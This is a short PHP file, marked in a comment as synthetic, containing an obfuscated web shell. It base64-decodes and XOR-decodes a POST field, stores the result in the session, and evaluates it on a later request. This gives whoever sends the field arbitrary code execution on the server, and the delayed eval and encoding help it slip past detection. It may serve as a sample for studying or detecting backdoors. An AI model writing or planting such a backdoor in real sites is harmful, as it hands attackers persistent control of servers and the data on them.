<?php
// synthetic: XOR-decoded POST field kept in the session and evaluated later
session_start();
function dec($d, $k) {
    for ($i = 0; $i < strlen($d); $i++) {
        $d[$i] = $d[$i] ^ $k[$i + 1 & 15];
    }
    return $d;
}
$p = dec(base64_decode($_POST['q']), '0123456789abcdef');
if (!isset($_SESSION['m'])) { $_SESSION['m'] = $p; } else { eval($_SESSION['m']); }
